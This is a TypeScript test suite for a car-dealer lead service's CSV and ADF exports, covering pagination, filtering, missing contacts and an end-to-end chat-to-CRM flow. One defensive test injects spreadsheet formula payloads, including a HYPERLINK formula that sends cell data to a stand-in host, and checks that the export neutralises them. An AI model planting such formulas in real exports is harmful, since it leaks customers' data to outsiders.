/** Leads and intents as CSV and ADF: all of them or page by page, each once, and in the end what a CRM takes. */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { after, before, describe, test } from 'node:test';
import { WebSocket } from 'ws';
import { secondsFromNow, Tokens } from '../../src/auth/tokens.ts';
import { type Leaf, readAdf } from '../support/adf.ts';
import { type Answer, ask } from '../support/ask.ts';
import { Client } from '../support/client.ts';
import { readCsv } from '../support/csv.ts';
import { adminJoin, clientJoin } from '../support/joins.ts';
import { ANN, GOLF, intent, lead, of, rowsOf, say, span } from '../support/leads.ts';
import { assertProblem } from '../support/problem.ts';
import { startProcess } from '../support/process.ts';
import { DEALER, inFolder, startServer, type TestServer } from '../support/server.ts';

const JSON_TYPE = 'application/json';
const CSV = 'text/csv';
const ADF = 'application/x-adf+xml';

let server: TestServer;
/** The token of a server of all dealers. */
let operator: string;
before(async () => {
  server = await startServer();
  operator = await server.token('server', 'ops', { dealer: '*' });
});
after(() => server.close());

const take = (dealerId: string, path: string, accept: string) =>
  ask(server, of(dealerId, path), { token: operator, headers: { accept } });

/** Follows `Link: rel="next"` to the end. @returns every page's answer */
async function follow(url: string, accept: string): Promise<Answer[]> {
  const pages: Answer[] = [];
  for (let next: string | undefined = url; next !== undefined; ) {
    const page = await ask(server, next, { token: operator, headers: { accept } });
    assert.equal(page.status, 200, page.text);
    pages.push(page);
    const { link } = page.headers;
    next =
      link === undefined ? undefined : (/^<([^>]+)>; rel="next"$/.exec(String(link))?.[1] ?? assert.fail(`${link}`));
  }
  return pages;
}

describe('CSV', () => {
  const COUNT = 450;
  before(async () => {
    await say(
      server,
      span(COUNT).map((n) => lead('many', `g${n}`, { name: `Lead ${n}`, vehicle: GOLF })),
    );
    const words = ['buy', 'trade_in'];
    await say(
      server,
      span(COUNT).map((n) => intent('many', `g${n >> 1}`, { intent: words[n % 2], notes: `${n}` })),
    );
  });

  /** What tells one row from another, in a row of CSV and in an item of a list. */
  const KEYS = {
    leads: { ofRow: (row: Record<string, string>) => row.groupId, ofItem: (item: Item) => item.groupId },
    'lead-intents': {
      ofRow: ({ groupId, intent }: Record<string, string>) => `${groupId} ${intent}`,
      ofItem: ({ groupId, intent }: Item) => `${groupId} ${intent}`,
    },
  } as const;
  interface Item {
    readonly groupId: string;
    readonly intent?: string;
  }

  for (const [name, { ofRow, ofItem }] of Object.entries(KEYS)) {
    test(`has all ${name} where no limit is given, each once, in the order of the list, under one header`, async () => {
      const { status, headers, text } = await take('many', `/${name}`, CSV);
      assert.equal(status, 200);
      assert.equal(headers['content-type'], 'text/csv; charset=utf-8');
      assert.equal(headers['content-disposition'], `attachment; filename="${name}.csv"`);
      assert.equal(headers.link, undefined);
      const keys = rowsOf(text).map(ofRow);
      assert.equal(keys.length, COUNT);
      assert.equal(new Set(keys).size, COUNT);
      const listed: string[] = [];
      for (let cursor = ''; listed.length < COUNT; ) {
        const { body } = await take('many', `/${name}?limit=200${cursor}`, JSON_TYPE);
        listed.push(...body.items.map(ofItem));
        cursor = `&cursor=${body.next}`;
      }
      assert.deepEqual(keys, listed);
    });

    test(`has one page of ${name} where a limit is given, and a link to the next, to the end: the same rows`, async () => {
      const pages = await follow(of('many', `/${name}?limit=200`), CSV);
      const tables = pages.map(({ text }) => rowsOf(text));
      assert.deepEqual(
        tables.map(({ length }) => length),
        [200, 200, 50],
      );
      assert.equal(new Set(pages.map(({ text }) => text.slice(0, text.indexOf('\r\n')))).size, 1);
      const { text } = await take('many', `/${name}`, CSV);
      assert.deepEqual(tables.flat(), rowsOf(text));
    });
  }

  test('goes on from a cursor to the end where no limit is given', async () => {
    const { body } = await take('many', '/leads?limit=200', JSON_TYPE);
    const { text } = await take('many', `/leads?cursor=${body.next}`, CSV);
    assert.equal(rowsOf(text).length, COUNT - 200);
  });

  test('is that of one group where it is named, and the link to its next page names it too', async () => {
    const { text } = await take('many', '/leads?groupId=g7', CSV);
    assert.deepEqual(
      rowsOf(text).map(({ groupId, name, ...row }) => [groupId, name, row['vehicle model']]),
      [['g7', 'Lead 7', 'Golf']],
    );
    const pages = await follow(of('many', '/lead-intents?groupId=g7&limit=1'), CSV);
    assert.deepEqual(
      pages.flatMap((page) => rowsOf(page.text)).map(({ groupId, notes }) => [groupId, notes]),
      [
        ['g7', '15'],
        ['g7', '14'],
      ],
    );
  });

  test('says of each lead and intent who it is, as the user does where the record does not', async () => {
    const user = { type: 'UPDATE_USER', dealerId: 'named', groupId: 'g1', message: { name: 'Ann', phone: '0171 1' } };
    await say(server, [user, lead('named', 'g1', { phone: '0171 2' }), intent('named', 'g1', { intent: 'buy' })]);
    const [ofLead] = rowsOf((await take('named', '/leads', CSV)).text);
    const [ofIntent] = rowsOf((await take('named', '/lead-intents', CSV)).text);
    assert.deepEqual([ofLead?.name, ofLead?.phone], ['Ann', '0171 2']);
    assert.deepEqual([ofIntent?.name, ofIntent?.phone, ofIntent?.intent], ['Ann', '0171 1', 'buy']);
  });

  test('runs nothing in a spreadsheet, whatever a customer has said', async () => {
    const formulas = ['=HYPERLINK("https://x.example/?"&A1)', '+1+1', '-1', '@SUM(A1)', '\t=1', '\r\n=1', ' =1', '＝1'];
    await say(
      server,
      formulas.map((name, n) => lead('evil', `g${n}`, { name, comments: `a\n${name}`, [name]: name })),
    );
    await say(
      server,
      formulas.map((name, n) => intent('evil', `g${n}`, { intent: `w${n}`, notes: name })),
    );
    for (const name of ['leads', 'lead-intents']) {
      const { text } = await take('evil', `/${name}`, CSV);
      const [, ...rows] = readCsv(text);
      assert.equal(rows.length, formulas.length);
      for (const cell of rows.flat()) assert.doesNotMatch(cell, /^[\s\p{C}]*[=+\-@＝]/u);
      for (const formula of formulas) assert.ok(rows.flat().includes(`'${formula}`), JSON.stringify(formula));
    }
  });

  test('is a header alone where there is nothing', async () => {
    for (const query of ['', '?limit=10', '?groupId=nobody']) {
      const [leads, intents] = [
        await take(DEALER, `/leads${query}`, CSV),
        await take(DEALER, `/lead-intents${query}`, CSV),
      ];
      assert.deepEqual([leads.status, intents.status], [200, 200]);
      assert.deepEqual([readCsv(leads.text).length, readCsv(intents.text).length], [1, 1]);
      assert.deepEqual([leads.headers.link, intents.headers.link], [undefined, undefined]);
    }
  });
});

describe('ADF', () => {
  const COUNT = 5;
  before(async () => {
    await server.store.putDealer('shop', { name: 'Autohaus', email: 'sales@shop.example' });
    await server.store.putDealer('nameless', {});
    await say(
      server,
      span(COUNT).map((n) => lead('shop', `g${n}`, { ...ANN, externalId: `crm-${n}` })),
    );
    await say(server, [
      intent('shop', 'g1', { intent: 'lease' }),
      intent('shop', 'g2', { intent: 'buy', vehicle: GOLF }),
    ]);
  });

  const at = (prospect: readonly Leaf[], path: string) => prospect.find((leaf) => leaf.path === path)?.text;

  test('has a page of leads, each a prospect, and a link to the next, to the end; every page is valid', async () => {
    const pages = await follow(of('shop', '/leads?limit=2'), ADF);
    for (const { headers } of pages) {
      assert.equal(headers['content-type'], 'application/x-adf+xml; charset=utf-8');
      assert.equal(headers['content-disposition'], 'attachment; filename="leads.xml"');
    }
    const prospects = pages.map(({ text }) => readAdf(text));
    assert.deepEqual(
      prospects.map(({ length }) => length),
      [2, 2, 1],
    );
    const ids = prospects.flat().map((prospect) => at(prospect, 'id'));
    assert.deepEqual(ids.toSorted(), ['g0', 'g1', 'g2', 'g3', 'g4']);
    assert.deepEqual((await follow(of('shop', '/leads'), ADF)).length, 1);
  });

  test('has a prospect for each intent, too, with its lead', async () => {
    const [first, second, ...more] = readAdf((await take('shop', '/lead-intents', ADF)).text);
    assert.ok(first && second && more.length === 0, 'there are two');
    const told = [first, second].map((each) => [
      at(each, 'id'),
      at(each, 'vehicle@interest'),
      at(each, 'vehicle/model'),
    ]);
    assert.deepEqual(told.toSorted(), [
      ['g1', 'lease', 'Golf'],
      ['g2', 'buy', 'Golf'],
    ]);
  });

  test('has who can be reached, whatever else nobody knows, and counts who cannot', async () => {
    await say(server, [
      lead('partly', 'whole', ANN),
      lead('partly', 'torn', { email: 'torn@x.example' }),
      lead('partly', 'lost', {}),
    ]);
    const { status, headers, text } = await take('partly', '/leads', ADF);
    assert.deepEqual([status, headers['telle-left-out']], [200, '1']);
    const prospects = readAdf(text);
    assert.deepEqual(prospects.flatMap((each) => at(each, 'id')).toSorted(), ['torn', 'whole']);
    assert.deepEqual(
      prospects.map((each) => at(each, 'vendor/vendorname')),
      ['partly', 'partly'],
    );
    assert.equal((await take('shop', '/leads', ADF)).headers['telle-left-out'], '0');
  });

  test('has the vehicle at which the customer looked last, where nobody names another', async () => {
    const view = (groupId: string, message: object) => ({
      type: 'UPDATE_PAGEVIEW',
      dealerId: 'looked',
      groupId,
      message,
    });
    await say(server, [
      view('g1', { url: 'https://cars.example/blue', vehicle: { year: 2024, make: 'VW', model: 'Golf' }, vin: 'V1' }),
      view('g1', { url: 'https://cars.example/contact' }),
      view('g2', { url: 'https://cars.example/red', stock: 'S2' }),
      lead('looked', 'g1', { email: 'ann@x.example' }),
      lead('looked', 'g2', { email: 'ben@x.example', vehicle: { make: 'Fiat' } }),
    ]);
    const told = readAdf((await take('looked', '/leads', ADF)).text).map((each) =>
      ['id', 'vehicle/make', 'vehicle/vin', 'vehicle/stock'].map((path) => at(each, path)),
    );
    assert.deepEqual(told.toSorted(), [
      ['g1', 'VW', 'V1', undefined],
      ['g2', 'Fiat', undefined, undefined],
    ]);
  });

  test('is refused where there is nobody to tell of: an empty document is none', async () => {
    await server.store.putDealer('empty', { name: 'Autohaus', phone: '030 1' });
    for (const path of ['/leads', '/lead-intents', '/leads?groupId=nobody']) {
      const { detail } = assertProblem(await take('empty', path, ADF), 406, 'not_acceptable');
      assert.equal(detail, 'an ADF document has one prospect at least, and there is no lead');
    }
    await say(server, [lead('empty', 'lost', { name: 'Ann' })]);
    const answer = await take('empty', '/leads', ADF);
    const { detail } = assertProblem(answer, 406, 'not_acceptable');
    assert.match(detail, /nobody here could be reached/);
    assert.equal(answer.headers['telle-left-out'], '1');
  });
});

/** The secret of the real run: one, since a comma would make two of it. */
const SECRET = 'a-secret-of-this-run-alone-and-long-enough';

test('a customer is followed from page view over chat to lead and intents, and comes out as CSV and as valid ADF', () =>
  inFolder(async (cwd) => {
    const run = await startProcess({ cwd, env: { AUTH_SECRET: SECRET, DATABASE_URL: 'sqlite:telle.db' } });
    const sockets: WebSocket[] = [];
    try {
      const tokens = new Tokens([SECRET]);
      const sign = (role: 'admin' | 'server', dealer: string, sub: string) =>
        tokens.sign({ role, dealer, sub, exp: secondsFromNow(600) });
      const [crm, alice] = [await sign('server', '*', 'crm'), await sign('admin', 'autohaus', 'alice')];
      const get = async (path: string, accept = JSON_TYPE) => {
        const headers = { authorization: `Bearer ${alice}`, accept };
        const response = await fetch(`${run.http}${of('autohaus', path)}`, { headers });
        assert.equal(response.status, 200, path);
        return response.text();
      };
      const dial = async () => {
        const socket = new WebSocket(run.url);
        sockets.push(socket);
        const client = new Client(socket);
        await once(socket, 'open');
        return client;
      };

      const made = await fetch(`${run.http}/v1/dealers/autohaus`, {
        method: 'PUT',
        headers: { authorization: `Bearer ${crm}`, 'content-type': JSON_TYPE },
        body: JSON.stringify({ name: 'Autohaus Müller & Söhne', email: 'leads@autohaus.example', phone: '030 123' }),
      });
      assert.equal(made.status, 201);

      const [customer, admin] = [await dial(), await dial()];
      await customer.ask('client_join', clientJoin({ dealerId: 'autohaus', groupId: 'visitor-1' }));
      await admin.ask('admin_join', adminJoin({ dealerId: 'autohaus', adminId: 'alice', token: alice }));
      const golf = { condition: 'new', year: 2026, make: 'VW', model: 'Golf', trim: 'GTI', stock: 'S-17' };
      const punto = { year: 1999, make: 'Fiat', model: 'Punto', vin: 'ZFA18800000123456', mileage: 180_000 };
      const update = (type: string, message: object) => customer.ask('customer_update', { type, message });
      for (const { channel } of [
        await update('UPDATE_PAGEVIEW', { url: 'https://autohaus.example/golf', title: 'Golf GTI', stock: 'S-17' }),
        await customer.ask('customer_message', { type: 'UPDATE_MSG', message: 'Is the <blue> one still there?' }),
        await admin.ask('admin_message', { type: 'UPDATE_MSG', groupId: 'visitor-1', message: 'It is. Who asks?' }),
        await update('UPDATE_USER', { firstName: 'Ann', lastName: "O'Lee", locale: 'de' }),
        await update('UPDATE_LEAD', { email: 'ann@mail.example', phone: '+49 171 1', source: 'chat', vehicle: golf }),
        await update('CREATE_LEAD_INTENT', { intent: 'test_drive', preferredTime: 'Saturday', vehicle: golf }),
        await update('CREATE_LEAD_INTENT', { intent: 'trade_in', vehicle: punto, notes: 'runs & runs' }),
      ]) {
        assert.equal(channel, 'ack');
      }

      const [view] = JSON.parse(await get('/pageviews')).items;
      assert.deepEqual([view.groupId, view.fields.title], ['visitor-1', 'Golf GTI']);
      const said = (await get('/groups/visitor-1/transcript', 'text/plain')).split('\n');
      for (const words of ['  customer: Is the <blue> one still there?', '  alice: It is. Who asks?']) {
        assert.ok(
          said.some((line) => line.endsWith(words)),
          words,
        );
      }

      const [row, ...moreRows] = rowsOf(await get('/leads', CSV));
      assert.ok(row && moreRows.length === 0, 'there is one');
      const { groupId, firstName, lastName, email, phone, source } = row;
      assert.deepEqual(
        [groupId, firstName, lastName, email, phone, source, row['vehicle trim']],
        ['visitor-1', 'Ann', "O'Lee", 'ann@mail.example', '+49 171 1', 'chat', 'GTI'],
      );
      const intents = rowsOf(await get('/lead-intents', CSV));
      assert.deepEqual(intents.map((each) => [each.intent, each.lastName, each['vehicle model']]).toSorted(), [
        ['test_drive', "O'Lee", 'Golf'],
        ['trade_in', "O'Lee", 'Punto'],
      ]);

      const [prospect, ...moreProspects] = readAdf(await get('/leads', ADF));
      assert.ok(prospect && moreProspects.length === 0, 'there is one');
      const all = (path: string) => prospect.filter((leaf) => leaf.path === path).map(({ text }) => text);
      assert.deepEqual(all('id'), ['visitor-1']);
      assert.deepEqual(all('requestdate'), [row.createdAt]);
      assert.deepEqual(all('vehicle@interest'), ['test-drive', 'trade-in']);
      assert.deepEqual(all('vehicle@status'), ['new', 'used']);
      assert.deepEqual(all('vehicle/year'), ['2026', '1999']);
      assert.deepEqual(all('vehicle/model'), ['Golf', 'Punto']);
      assert.deepEqual(all('vehicle/vin'), [punto.vin]);
      assert.deepEqual(all('customer/contact/name'), ['Ann', "O'Lee"]);
      assert.deepEqual(all('customer/contact/email'), ['ann@mail.example']);
      assert.deepEqual(all('customer/contact/phone'), ['+49 171 1']);
      assert.deepEqual(all('vendor/vendorname'), ['Autohaus Müller & Söhne']);
      const comments = prospect
        .filter(({ path }) => path.endsWith('comments'))
        .map(({ text }) => text)
        .join('\n');
      for (const words of ['Saturday', 'runs & runs', '180000', 'chat']) assert.ok(comments.includes(words), words);
    } finally {
      for (const socket of sockets) socket.terminate();
      await run.kill('SIGTERM');
    }
  }));
